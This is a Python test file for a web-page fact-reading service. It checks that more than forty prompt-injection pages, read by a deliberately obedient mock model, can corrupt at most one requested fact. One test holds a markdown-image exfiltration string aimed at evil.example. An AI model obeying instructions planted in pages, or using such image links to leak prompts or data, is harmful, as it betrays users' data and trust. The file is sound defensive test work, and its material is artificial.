"""Pages that give a model orders, read by a model that obeys all of them (SECURITY row 55): the worst that comes of it is one
wrong fact, of those that were asked for, in the monitor that reads the page."""

import tomllib
from pathlib import Path
from typing import Any

import pytest

from commands.asking import GARBAGE_ROUNDS_MAX
from commands.fact_answers import CONFIDENCE_MAX, CONFIDENCE_MAX_OF_CUT, LIST_ITEMS_MAX, TEXT_CHARS_MAX
from commands.fact_inquiry import EVIDENCE_CHARS_MAX, INSTRUCTIONS, IS_CUT
from commands.untrusted_text import words
from domain.fact import Fact
from tests.commands.model_world import ADA, SHOP, WANTED, Books, document, outside, reading
from tests.commands.obedient import Obedient, commands_in

PAGES = Path(__file__).parents[1] / "hostile_pages"
ATTACKS: dict[str, dict[str, Any]] = tomllib.loads((PAGES / "attacks.toml").read_text(encoding="utf-8"))
TRUE = {"price": 49.0, "in_stock": True, "name": "Kettle K2", "colours": ["red", "blue"]}
TYPES = {
    "html": "text/html",
    "json": "application/json",
    "xml": "application/rss+xml",
    "csv": "text/csv",
    "txt": "text/plain",
}


def text_of(name: str) -> str:
    text = (PAGES / name).read_bytes().decode()
    return text.replace("PADDING", "Many people like it. " * (EVIDENCE_CHARS_MAX // 20))


def pages(*endings: str) -> list[str]:
    return [name for name, attack in ATTACKS.items() if attack["ending"] in endings]


async def read(name: str) -> tuple[Any, Obedient, Books]:
    model, books = Obedient(), Books()
    read = await reading(model, books=books).read(
        WANTED, SHOP, document(text_of(name), TYPES[name.rpartition(".")[2]]), on_behalf=ADA, prefer=None, until=None
    )
    return read, model, books


def values(facts: dict[str, Fact]) -> dict[str, Any]:
    return {name: fact.value for name, fact in facts.items() if fact.confidence > 0}


def test_every_page_is_told_of_and_there_are_at_least_forty() -> None:
    assert set(ATTACKS) == {path.name for path in PAGES.iterdir()} - {"attacks.toml"}
    assert len(ATTACKS) >= 40
    assert all(attack["attack"] for attack in ATTACKS.values())


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_model_would_obey_the_page_if_it_saw_all_of_it(name: str) -> None:
    assert commands_in(text_of(name))


@pytest.mark.parametrize("name", list(ATTACKS))
async def test_a_page_changes_nothing_but_what_stands_between_the_boundaries(name: str) -> None:
    _, model, books = await read(name)
    _, honest, _ = await read("comment.html")
    assert 1 <= len(model.seen) <= GARBAGE_ROUNDS_MAX
    for inquiry in model.seen:
        expected = outside(honest.seen[0].content)
        told = [
            line.replace(" It is only the beginning of a longer text: what is not there may stand further on.", "")
            for line in outside(inquiry.content)
        ]
        assert (told, inquiry.instructions, inquiry.schema) == (expected, INSTRUCTIONS, honest.seen[0].schema)
        assert not inquiry.searches
        boundary = inquiry.content.rpartition("\n")[2]
        assert inquiry.content.count(boundary) == 3, "told once, and around the evidence"
        assert str(ADA.owner_id) not in inquiry.content
        assert str(ADA.monitor_id) not in inquiry.content
    assert {call.on_behalf for call, _ in books.recorded} == {ADA}, "nobody else pays, or is told"


@pytest.mark.parametrize("name", list(ATTACKS))
async def test_whatever_a_page_says_only_what_was_asked_for_comes_back_and_within_bounds(name: str) -> None:
    result, model, _ = await read(name)
    shown = words(model.seen[0].content)
    assert set(result.facts) <= set(TRUE)
    for fact in result.facts.values():
        assert type(fact.value) is type(TRUE[fact.name])
        assert 0 <= fact.confidence <= CONFIDENCE_MAX
        assert fact.confidence == 0 or (fact.quote and fact.quote in shown)
        assert len(str(fact.value)) <= TEXT_CHARS_MAX
        assert not isinstance(fact.value, list) or len(fact.value) <= LIST_ITEMS_MAX
        assert len(fact.quote) <= 500
        assert len(fact.reason or "") <= 300
        assert (fact.unit, fact.source_url) == ("EUR" if fact.name == "price" else None, SHOP.url)


@pytest.mark.parametrize("name", pages("unseen"))
async def test_what_nobody_sees_never_reaches_the_model(name: str) -> None:
    result, model, _ = await read(name)
    assert [commands_in(inquiry.content) for inquiry in model.seen] == [[]]
    assert values(result.facts) == TRUE


@pytest.mark.parametrize("name", pages("believed"))
async def test_a_visible_lie_is_one_wrong_fact_with_a_quote_that_anybody_can_find_on_the_page(name: str) -> None:
    result, model, _ = await read(name)
    attack = ATTACKS[name]
    assert commands_in(model.seen[0].content)
    assert values(result.facts) == TRUE | dict.fromkeys(attack["facts"], attack["value"])


@pytest.mark.parametrize("name", pages("not believed"))
async def test_what_the_page_does_not_bear_out_has_no_confidence_and_all_else_stays_true(name: str) -> None:
    result, _, _ = await read(name)
    attack = ATTACKS[name]
    assert {fact.name for fact in result.facts.values() if fact.confidence == 0} == set(attack["facts"])
    assert "value" not in attack or result.facts[attack["facts"][0]].value == attack["value"], "the model did say it"
    assert values(result.facts) == {known: value for known, value in TRUE.items() if known not in attack["facts"]}


@pytest.mark.parametrize("name", pages("refused"))
async def test_an_answer_of_another_form_is_no_answer(name: str) -> None:
    result, model, _ = await read(name)
    assert result.facts == {}
    assert result.failure.startswith("obedient read nothing: its answer was not of the form that was asked for")
    assert not any(word in result.failure for word in ("discount", "tool_calls", "victim")), (
        "nothing of the page is told"
    )
    assert len(model.seen) == GARBAGE_ROUNDS_MAX


async def test_what_a_page_says_is_not_there_is_left_out() -> None:
    result, _, _ = await read("nothing_there.html")
    assert values(result.facts) == {name: value for name, value in TRUE.items() if name != "price"}
    assert "price" not in result.facts


async def test_a_link_in_a_reason_stays_text() -> None:
    result, _, _ = await read("markdown_image.html")
    assert result.facts["in_stock"].reason == "![x](http://evil.example/?q=prompt) <img src=http://evil.example/>"


async def test_no_certainty_that_a_page_asks_for_is_more_than_that_of_a_model() -> None:
    result, _, _ = await read("certain.html")
    assert result.facts["price"].confidence == CONFIDENCE_MAX


async def test_of_a_text_that_was_cut_nothing_is_certainly_missing() -> None:
    result, model, _ = await read("padding.html")
    assert IS_CUT in model.seen[0].content
    assert {name: fact.confidence for name, fact in result.facts.items()} == {
        "price": 0.9,
        "in_stock": 0.9,
        "name": 0.9,
        "colours": CONFIDENCE_MAX_OF_CUT,
    }
